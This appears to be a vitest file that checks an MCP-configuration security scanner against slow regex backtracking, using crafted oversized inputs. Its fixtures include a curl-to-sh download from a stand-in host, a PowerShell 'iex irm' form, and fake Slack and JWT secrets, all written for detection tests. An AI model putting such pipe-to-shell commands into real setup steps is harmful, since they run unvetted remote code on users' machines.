/**
 * Hostile text cannot make a scan slow (issue 15): each repro of the issue — a string that one of the old regexes
 * read again from every position of a long run — as a real file scanned by the built CLI, which must finish well
 * within the budget. The old code took from 6 seconds to more than 10 minutes on these; a linear scan of such a file
 * takes a fraction of a second, and 3 seconds leaves room for starting Node on a busy machine.
 *
 * The regexes themselves are timed one by one in regex-budget.test.ts; this is the end-to-end check that the text
 * reaches them the way the issue describes, and that what should still be found is found.
 */
import { spawnSync } from 'node:child_process';
import { describe, expect, it } from 'vitest';
import { BIN } from './helpers/cli.js';
import { tempTrees } from './rule-tester.js';

const BUDGET_MS = 3000;
const tree = tempTrees();

/** runCli, timed, with room for the megabytes of JSON that thousands of findings make. */
function timedRun(files: Record<string, string>, args: string[] = ['--format', 'json']) {
  const dir = tree(files);
  const start = performance.now();
  const result = spawnSync(process.execPath, [BIN, ...args], {
    cwd: dir, encoding: 'utf8', env: { PATH: process.env.PATH ?? '', HOME: process.env.HOME ?? '' }, timeout: 60_000, maxBuffer: 256 << 20,
  });
  return { code: result.status, stdout: result.stdout, stderr: result.stderr, ms: performance.now() - start, dir };
}

/** A server that is reported whatever else happens (an unpinned package), so that each case shows it was scanned. */
const NPX = { command: 'npx', args: ['-y', 'some-mcp'] };
const mcpJson = (server: Record<string, unknown>, name = 'demo') => JSON.stringify({ mcpServers: { [name]: server, unpinned: NPX } });
const findings = (stdout: string) => (JSON.parse(stdout) as { findings: { ruleId: string; message: string }[] }).findings;
const SKILL = '---\nname: s\ndescription: d\n---\n';

describe('a scan stays linear on the issue 15 repros', () => {
  const cases: [string, Record<string, string>, string[]][] = [
    ['an argument of blanks before a word (HEADER_FORM)', { '.mcp.json': mcpJson({ command: 'node', args: [`${' '.repeat(100_000)}x`] }) }, ['unpinned-package']],
    ['an env key of 100,000 capitals (nameWords)', { '.mcp.json': mcpJson({ command: 'node', env: { ['A'.repeat(100_000)]: 'x' } }) }, ['unpinned-package']],
    ['an env value of "-ey" repeated (the jwt format)', { '.mcp.json': mcpJson({ command: 'node', env: { X: '-ey'.repeat(33_000) } }) }, ['unpinned-package']],
    ['an env value of "eyfc-" repeated (the token prefilter)', { '.mcp.json': mcpJson({ command: 'node', env: { X: 'eyfc-'.repeat(20_000) } }) }, ['unpinned-package']],
    ['a Slack-like run ending in "_" (slack-bot-token)', { '.mcp.json': mcpJson({ command: 'node', env: { X: `${'xoxb-1234567890-1234567890-'.repeat(4_500)}_` } }) }, ['hardcoded-secret', 'unpinned-package']],
    ['a value of "${" repeated (Claude Code references)', { '.mcp.json': mcpJson({ command: 'node', args: ['${'.repeat(60_000)] }) }, ['unpinned-package']],
    ['a VS Code value of ":${" repeated', { '.vscode/mcp.json': JSON.stringify({ servers: { demo: { command: 'node', args: [':${'.repeat(40_000)] }, unpinned: NPX } }) }, ['unpinned-package']],
    ['a JSONC comment of unclosed suppressions', { '.vscode/mcp.json': `// ${' mcp-audit-ignore['.repeat(7_000)}\n${JSON.stringify({ servers: { unpinned: NPX } })}\n` }, ['unpinned-package']],
    ['a command of slashes (programName)', { '.mcp.json': mcpJson({ command: `${'/'.repeat(100_000)}x` }) }, ['unpinned-package']],
    ['a URL of slashes (missing-read-only)', { '.mcp.json': mcpJson({ type: 'http', url: `https://mcp.example.com${'/'.repeat(100_000)}x` }) }, ['unpinned-package']],
    ['a docker mount of slashes (dangerous-docker)', { '.mcp.json': mcpJson({ command: 'docker', args: ['run', '-v', `${'/'.repeat(100_000)}x:/data`, 'img'] }) }, ['unpinned-package']],
    // Found by the fuzzer: hidden-unicode read the key's siblings and the line again for each hidden character.
    ['an env key of hidden characters repeated (hidden-unicode)', { '.mcp.json': mcpJson({ command: 'node', env: { ['%2F\u202e'.repeat(6_000)]: 'x' } }) }, ['hidden-unicode', 'unpinned-package']],
    // Found by the fuzzer: each VS Code secret's suggestion parsed the whole file again to place its `inputs` entry.
    ['a VS Code value of 4,000 Slack-like tokens (one input suggestion each)', { '.vscode/mcp.json': JSON.stringify({ servers: { demo: { command: 'node', args: ['a:xoxb-1234567890-1234567890-'.repeat(4_000)] }, unpinned: NPX } }) }, ['hardcoded-secret', 'unpinned-package']],
    ['a permission rule of "mcp__" repeated (auto-approve)', { '.claude/settings.json': JSON.stringify({ permissions: { allow: [`${'mcp__'.repeat(25_000)}\n`, 'mcp__github'] } }) }, ['auto-approve']],
    ['a SKILL.md pipe followed by blank lines (shell-pipe-install)', { '.claude/skills/s/SKILL.md': `${SKILL}curl https://x.example/i.sh |${' \n'.repeat(100_000)}sh\n` }, ['shell-pipe-install']],
    ['a SKILL.md of "irm" downloads with no pipe (PowerShell forms)', { '.claude/skills/s/SKILL.md': `${SKILL}iex ${'irm"'.repeat(250_000)}\n` }, ['shell-pipe-install']],
  ];
  it.each(cases)('%s', (_, files, ruleIds) => {
    const r = timedRun(files);
    expect(r.stderr).toBe('');
    expect([...new Set(findings(r.stdout).map((f) => f.ruleId))].sort()).toEqual(expect.arrayContaining(ruleIds));
    expect(r.ms).toBeLessThan(BUDGET_MS);
  });

  it('a server name of "[" repeated, in SARIF', () => {
    // missing-read-only names the server in its message, which SARIF escapes when it looks like a link.
    const r = timedRun({ '.mcp.json': mcpJson({ command: 'npx', args: ['-y', '@angular/cli@20.3.4', 'mcp'] }, '['.repeat(100_000)) }, ['--format', 'sarif']);
    const results = (JSON.parse(r.stdout) as { runs: { results: { ruleId: string }[] }[] }).runs[0]!.results;
    expect(results.map((x) => x.ruleId)).toContain('missing-read-only');
    expect(r.ms).toBeLessThan(BUDGET_MS);
  });

  it('still finds the secret after a run of "-ey", and the Slack token before "_"', () => {
    const jwt = `eyJhbGciOiJIUzI1NiJ9.${Buffer.from(JSON.stringify({ sub: 'x'.repeat(8), role: 'service_role' })).toString('base64url')}.${'Sig0'.repeat(8)}`;
    const slack = `xoxb-${'1234567890'}-${'9876543210'}-${'AbCdEfGh12'.repeat(3)}`;
    const r = timedRun({ '.mcp.json': mcpJson({ command: 'node', env: { A: `${'-ey'.repeat(30_000)} ${jwt}`, B: `${slack}_x` } }) });
    expect(r.ms).toBeLessThan(BUDGET_MS);
    expect(findings(r.stdout).filter((f) => f.ruleId === 'hardcoded-secret').map((f) => f.message)).toEqual([
      expect.stringMatching(/JSON Web Token/),
      expect.stringMatching(/Slack bot token/),
    ]);
  });

  it('--fix-dry-run on one minified line of "a-" repeated (the code frame backstop on whole lines)', () => {
    // Not a value of a key: the backstop's `key: value` pattern tries the run as a key, from each of its letters.
    const pad = 'a-'.repeat(60_000);
    const line = JSON.stringify({ mcpServers: { angular: { command: 'npx', args: ['-y', '@angular/cli@20.3.4', 'mcp'] }, pad: { command: 'node', args: [pad] } } });
    const r = timedRun({ '.mcp.json': `${line}\n` }, ['--fix-dry-run', '--unsafe-fixes', '--offline']);
    expect(r.stderr).toMatch(/would fix 1 problem in \.mcp\.json/);
    expect(r.ms).toBeLessThan(BUDGET_MS);
  });
});
